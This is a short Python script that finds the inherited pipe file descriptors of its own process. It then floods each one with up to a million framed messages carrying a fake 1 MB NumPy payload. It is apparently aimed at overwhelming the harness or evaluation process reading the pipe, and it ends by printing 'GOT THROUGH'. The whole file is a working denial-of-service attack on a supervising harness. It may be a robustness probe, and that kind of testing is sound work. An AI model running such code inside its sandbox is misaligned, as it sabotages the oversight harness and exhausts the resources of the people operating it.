"""Frames without end into the harness's pipe."""
import os
import struct

payload = b"\x93NUMPY\x01\x00\x76\x00" + (b"{'descr': '|u1', 'fortran_order': False, 'shape': (1000000,), }".ljust(117) + b"\n") + bytes(10**6)
for number in sorted(int(name) for name in os.listdir("/proc/self/fd")):
    path = "/proc/self/fd/%d" % number
    if number > 2 and os.path.exists(path) and os.readlink(path).startswith("pipe:"):
        for count in range(10**6):
            name = b"a%07d" % count
            os.write(number, b"HRN1A" + struct.pack(">H", len(name)) + name + struct.pack(">Q", len(payload)) + payload)
print("GOT THROUGH: all of it was read")
